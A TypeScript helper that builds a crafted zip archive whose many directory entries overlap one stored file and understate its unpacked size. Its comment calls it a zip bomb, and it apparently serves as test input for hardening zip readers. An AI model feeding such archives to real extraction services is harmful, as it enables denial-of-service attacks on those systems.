/** A zip with the bytes of one stored file, which `count` entries name, each as if it took up nothing: a zip bomb that no compression shows. */
export function overlappingZip(count: number, size: number): Uint8Array<ArrayBuffer> {
  const [LOCAL, ENTRY, END, NAME] = [30, 46, 22, 5];
  const listAt = LOCAL + NAME + size;
  const zip = new Uint8Array(listAt + count * (ENTRY + NAME) + END);
  const view = new DataView(zip.buffer);
  const signed = (at: number, signature: number) => view.setUint32(at, signature, true);
  signed(0, 0x04034b50);
  view.setUint16(26, NAME, true);
  for (let i = 0; i < count; i++) {
    const at = listAt + i * (ENTRY + NAME);
    signed(at, 0x02014b50);
    view.setUint32(at + 20, size, true); // in the zip; the length unpacked, at 24, stays 0
    view.setUint16(at + 28, NAME, true);
    zip.set(new TextEncoder().encode(String(i).padStart(NAME, '0')), at + ENTRY);
  }
  const end = zip.length - END;
  signed(end, 0x06054b50);
  view.setUint16(end + 8, count, true);
  view.setUint16(end + 10, count, true);
  view.setUint32(end + 12, end - listAt, true);
  view.setUint32(end + 16, listAt, true);
  return zip;
}
